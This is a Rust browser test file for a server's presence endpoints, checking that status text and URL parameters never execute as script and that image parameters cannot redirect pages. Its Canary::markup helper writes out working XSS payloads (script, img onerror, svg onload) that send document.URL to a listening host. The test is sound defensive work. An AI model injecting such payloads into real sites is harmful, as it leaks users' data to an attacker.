//! Nothing that a user or an address says runs in a browser, or leads it astray: rows H7 and H3, in a real one.

use std::{
    net::TcpListener,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
};

use tests::{
    browser::Browser,
    host::{Host, PATIENCE},
    http::encode,
    wait,
};

use super::{STATUS, open_host, show, widget::serve_page, without_browser};

/// An origin that nobody has a reason to call, which counts who does.
struct Canary {
    origin: String,
    calls: Arc<AtomicUsize>,
}

impl Canary {
    fn listen() -> Canary {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
        let origin = format!("http://{}", listener.local_addr().expect("it is bound"));
        let calls = Arc::new(AtomicUsize::new(0));
        let counted = calls.clone();
        thread::spawn(move || {
            for _ in listener.incoming() {
                counted.fetch_add(1, Ordering::SeqCst);
            }
        });
        Canary { origin, calls }
    }

    /// Markup that calls in three ways, if it is taken for markup.
    fn markup(&self) -> String {
        let call = format!("new Image().src='{}/'+document.URL", self.origin);
        format!(
            "\"'><script>{call}</script><img src=x: onerror=\"{call}\"><svg xmlns='http://www.w3.org/2000/svg' onload=\"{call}\"/>"
        )
    }

    fn calls(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }
}

#[test]
fn a_status_or_a_label_is_never_run() {
    let host = open_host();
    let Some(mut browser) = Browser::start() else { return without_browser("what a browser runs") };
    let canary = Canary::listen();
    let mut alice = host.new_user("alice");
    show(&mut alice, "away", &canary.markup());
    for address in addresses(&host, &canary.markup()) {
        browser.open(&address);
        wait::until(PATIENCE, "the document is there", || {
            (browser.value("document.readyState") == "complete").then_some(())
        });
        assert_eq!(canary.calls(), 0, "{address}"); // [H7]
    }
    // What is seen above would have been seen: this page does take it for markup.
    let trap = serve_page(&canary.markup(), "img-src *; script-src 'unsafe-inline'");
    browser.open(&format!("http://{trap}/"));
    wait::until(PATIENCE, "the canary hears of it", || (canary.calls() > 0).then_some(()));
}

/// Row H3: a custom image is fetched from where the page says, and an address of this server's leads nobody there.
#[test]
fn a_picture_is_redirected_and_a_page_is_not() {
    let host = open_host();
    let Some(mut browser) = Browser::start() else { return without_browser("where a browser is sent") };
    let canary = Canary::listen();
    let status = format!("http://{}{STATUS}?jid=nobody@localhost", host.process().ready().http);
    let address = format!("{status}&forbidden={}", encode(&format!("{}/icon.gif", canary.origin)));
    browser.open(&address);
    wait::until(PATIENCE, "the icon is there, as a page of its own", || {
        (browser.value("document.contentType") == "image/gif").then_some(())
    });
    assert_eq!((browser.value("document.URL"), canary.calls()), (address.clone().into(), 0));
    let page = serve_page(&format!("<img src='{address}'>"), "img-src *");
    browser.open(&format!("http://{page}/"));
    wait::until(PATIENCE, "the canary is asked for the image", || (canary.calls() > 0).then_some(()));
}

/// Everything that repeats a status or a parameter, each opened as a page of its own.
fn addresses(host: &Host, markup: &str) -> Vec<String> {
    let base = format!("http://{}/plugins/presence", host.process().ready().http);
    let markup = encode(markup);
    let status =
        ["xml", "text", "json", "svg", "image", &markup].map(|kind| format!("status?jid=alice@localhost&type={kind}"));
    let forms = ["", ".xml", ".txt", ".json", ".svg"].map(|suffix| format!("v1/users/alice@localhost{suffix}"));
    let others = [
        format!("status?type=xml&jid={markup}&req_jid={markup}"),
        format!("v1/users/alice@localhost/badge.svg?label={markup}"),
        format!("v1/users/alice@localhost/badge.json?label={markup}"),
        format!("v1/users/alice@localhost/icon.svg?theme={markup}&size={markup}"),
        format!("v1/presence?jid=alice@localhost&jid={markup}"),
        format!("?jid={markup}&label={markup}&theme={markup}&style={markup}&size={markup}"),
        "?jid=alice@localhost".to_owned(),
        format!("example?jid={markup}&base={markup}"),
        markup.clone(),
    ];
    status.into_iter().chain(forms).chain(others).map(|rest| format!("{base}/{rest}")).collect()
}
